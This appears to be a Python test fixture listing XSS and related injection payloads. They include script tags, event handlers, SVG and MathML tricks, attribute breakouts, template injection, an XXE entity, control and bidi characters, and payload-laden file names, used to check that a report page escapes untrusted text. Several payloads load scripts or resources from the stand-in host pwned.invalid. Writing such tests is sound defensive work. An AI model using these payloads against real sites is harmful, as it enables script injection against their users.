"""report_payloads.py - what strangers could write into a text, a name or an id to make a page do things.

A payload that works sets window.pwned or the title, asks the network for something, or leaves an element
or an attribute that the page's own writer never writes: report.py looks for all of these.
"""

DO = "window.pwned=1;document.title='pwned'"
NET = "http://pwned.invalid/x"

PAYLOADS = [
    # elements that run or load
    f"<script>{DO}</script>",
    f"<SCRIPT>{DO}</SCRIPT >",
    f"<script src={NET}.js></script>",
    f"<script type=module>{DO}</script>",
    f"<script\n>{DO}</script\t>",
    f"<scr<script>ipt>{DO}</scr</script>ipt>",
    f"<img src=x onerror=\"{DO}\">",
    f"<img src={NET}.png>",
    f"<image href={NET} onerror={DO}>",
    f"<svg onload=\"{DO}\">",
    f"<svg><script>{DO}</script></svg>",
    f"<svg><animate onbegin=\"{DO}\" attributeName=x dur=1s>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{DO}'/>#x\"/></svg>",
    f"<svg><a xlink:href=\"javascript:{DO}\"><text y=20>go</text></a></svg>",
    f"<math><mtext><table><mglyph><style><img src onerror=\"{DO}\"></style>",
    f"<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>",
    f"<iframe src=\"javascript:parent.pwned=1\"></iframe>",
    f"<object data=\"{NET}.swf\"></object><embed src={NET}>",
    f"<video><source onerror=\"{DO}\"></video>",
    f"<audio src={NET} onerror={DO} autoplay>",
    f"<body onload=\"{DO}\" onpageshow=\"{DO}\">",
    f"<details open ontoggle=\"{DO}\">x</details>",
    f"<input autofocus onfocus=\"{DO}\">",
    f"<marquee onstart=\"{DO}\">x</marquee>",
    f"<a href=\"javascript:{DO}\" autofocus onfocus={DO}>go</a>",
    f"<form action={NET}><button formaction=\"javascript:{DO}\">go</button></form>",
    f"<link rel=stylesheet href={NET}.css><link rel=preload as=script href={NET}.js>",
    f"<style>@import '{NET}.css'; * {{ background: url({NET}.png) }}</style>",
    f"<meta http-equiv=refresh content=\"0;url=javascript:{DO}\">",
    f"<meta http-equiv=\"refresh\" content=\"0; url={NET}\"><base href=\"{NET}/\">",
    f"<dialog open><p id=list>covers the page</p></dialog>",
    f"<template><script>{DO}</script></template><noscript><img src={NET}></noscript>",
    f"<p style=\"position:fixed;inset:0;background:url({NET}.png)\">over all</p>",
    # out of what they stand in
    f"</title><script>{DO}</script>",
    f"</script><script>{DO}</script>",
    f"</style><script>{DO}</script>",
    f"</textarea></noscript></template></svg></math><img src=x onerror={DO}>",
    f"</bdi></span></summary></details></div></section></body></html><script>{DO}</script>",
    f"\"><script>{DO}</script>",
    f"'><script>{DO}</script>",
    f"`><script>{DO}</script>",
    f"\" onmouseover=\"{DO}\" autofocus onfocus=\"{DO}\" x=\"",
    f"' onmouseover='{DO}' autofocus onfocus='{DO}' x='",
    f"` onmouseover=`{DO}` x=`",
    f" onfocus={DO} tabindex=0 autofocus ",
    f"x\" data-a=\"other\" id=\"list\" hidden class=\"items",
    # comments, sections, declarations
    f"--><script>{DO}</script><!--",
    f"<!--><script>{DO}</script>-->",
    f"<![CDATA[><script>{DO}</script>]]>",
    f"]]><script>{DO}</script>",
    f"<?xml version=\"1.0\"?><?php {DO} ?><!DOCTYPE x [<!ENTITY e SYSTEM \"{NET}\">]>&e;",
    # entities and escapes that are to stay what they are
    f"&lt;script&gt;{DO}&lt;/script&gt;",
    f"&#60;script&#62;{DO}&#x3c;/script&#x3e; &amp;lt;b&amp;gt; &quot; &#39; &copy &notit; &#0; &#x110000;",
    f"\\u003cscript\\u003e{DO}\\x3c/script\\x3e %3Cscript%3E",
    f"${{{DO}}} {{{{constructor.constructor('{DO}')()}}}} #{{{DO}}} <%= {DO} %>",
    f"javascript:{DO}//'-{DO}-'\"-{DO}-\"`-{DO}-`",
    f"data:text/html,<script>parent.pwned=1</script>",
    # characters that are no letters
    f"<scr\x00ipt>{DO}</scr\x00ipt><img src=x one\x00rror={DO}>",
    f"\x00<script>{DO}</script>\x00\"",
    f"\u202e<script>{DO}</script>\u2066txt.exe\u2069 \u200f\u061c\u2028\u2029{DO}",
    f"\x1b[31m\x1b]0;pwned\x07\x1b[2J\x9b31m<script>{DO}</script>\x7f\x08\x08",
    f"\uff1cscript\uff1e{DO}\uff1c/script\uff1e \u02bc><\u0131mg src=x onerror={DO}> \ufeff<\u00a0script>",
    f"<img/src=x/onerror={DO}//><svg/onload={DO}\r\n><a\fhref={NET}\f>\v",
    "W" * 5000 + f"<script>{DO}</script>",
    "<" * 400 + "script" + ">" * 400 + "\"'`" * 100,
    "\u0300" * 300 + "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 40 + "\U000e0001\U0010ffff",
]

# What stands on the page letter by letter; the rest holds characters that are spelled out.
PLAIN = [p for p in PAYLOADS if all(c.isprintable() or c in "\n\t" for c in p)]


def names_of_files():
    """The payloads as file names: no slash, no NUL, at most 200 bytes."""
    for number, payload in enumerate(PAYLOADS):
        name = payload.replace("/", "\u2215").replace("\x00", "")[:120].encode()[:200].decode(errors="ignore")
        yield f"{number:02d}{name}.txt", payload
